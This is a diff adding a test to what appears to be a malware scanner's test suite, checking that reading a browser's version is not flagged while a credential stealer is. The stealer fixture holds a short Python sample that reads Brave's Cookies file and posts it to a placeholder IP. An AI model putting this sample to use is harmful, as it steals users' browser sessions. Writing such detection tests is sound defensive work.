@@ -149,3 +149,33 @@ def test_a_shell_comment_naming_an_rc_file_is_a_mention(tmp_path):
     (tmp_path / "run").mkdir()
     res = _scan(tmp_path / "run", {"legacy/completion.sh": appended})
     assert any(t.id == "impact.persistence" for t in res.threats)
+
+
+def test_a_browser_program_folder_is_not_its_profile_store(tmp_path):
+    """Driver managers read the browser's version from its program folder and version key at
+    import; a stealer names the profile folder (on macOS and Linux, Brave-Browser itself)."""
+    versions = (
+        b"import subprocess\n"
+        b"COMMANDS = {\n"
+        b"    'win': r'(Get-Item -Path \"$env:PROGRAMFILES\\BraveSoftware\\Brave-Browser"
+        b"\\Application\\brave.exe\").VersionInfo.FileVersion',\n"
+        b"    'reg': r'(Get-ItemProperty -Path Registry::\"HKCU\\SOFTWARE\\BraveSoftware"
+        b"\\Brave-Browser\\BLBeacon\").version',\n"
+        b"}\n"
+        b"def version(os_type):\n"
+        b"    return subprocess.run(['powershell', COMMANDS[os_type]], capture_output=True)\n"
+    )
+    res = _scan(tmp_path, {"legacy/__init__.py": versions})
+    assert not [h for h in res.findings if h.capability == "cred.browser_data"]
+    assert res.risk.level not in HIGH
+
+    stealer = (
+        b"import os, urllib.request\n"
+        b"BASE = os.path.expanduser('~/.config/BraveSoftware/Brave-Browser')\n"
+        b"data = open(os.path.join(BASE, 'Default', 'Cookies'), 'rb').read()\n"
+        b"urllib.request.urlopen('http://192.0.2.7/c', data=data)\n"
+    )
+    (tmp_path / "steal").mkdir()
+    res = _scan(tmp_path / "steal", {"legacy/__init__.py": stealer})
+    assert any(h.capability == "cred.browser_data" and h.line == 2 for h in res.findings)
+    assert res.risk.level in HIGH
